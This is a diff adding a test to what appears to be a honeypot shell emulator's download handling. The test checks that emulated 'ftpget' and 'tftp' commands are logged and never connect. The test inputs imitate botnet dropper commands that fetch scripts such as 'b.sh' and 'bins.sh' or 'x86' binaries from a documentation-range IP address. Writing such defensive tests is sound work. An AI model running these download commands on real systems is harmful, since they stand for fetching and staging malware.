@@ -111,6 +111,16 @@ describe('download commands with download.mode fetch', () => {
     expect(result.events[1]?.fields).toEqual({ url: `${base}/missing`, reason: 'HTTP 404 Not Found' });
   });
 
+  it('ftpget logs its ftp:// URL through the download rules and never connects', async () => {
+    const off = await runExec('ftpget -u bot -p pw 198.51.100.9 /tmp/b.sh /pub/b.sh', { dataDir });
+    expect(off.events[1]?.fields).toEqual({ url: 'ftp://bot:pw@198.51.100.9/pub/b.sh', reason: 'download.mode=off' });
+    expect(off.stderr).toBe("ftpget: can't connect to remote host (198.51.100.9): Connection refused\n");
+    expect(off.exitCode).toBe(1);
+    const fetching = await fetchMode('ftpget -P 2121 files.example x86; ls x86');
+    expect(fetching.events[1]?.fields).toEqual({ url: 'ftp://files.example:2121/x86', reason: 'scheme ftp: is not fetched' });
+    expect(fetching.stderr).toBe("ftpget: bad address 'files.example'\nls: cannot access 'x86': No such file or directory\n");
+  });
+
   it('does not fetch tftp but logs its URL', async () => {
     const result = await fetchMode('tftp 198.51.100.9 -c get bins.sh');
     expect(result.events[1]?.fields).toEqual({ url: 'tftp://198.51.100.9/bins.sh', reason: 'tftp is not fetched' });
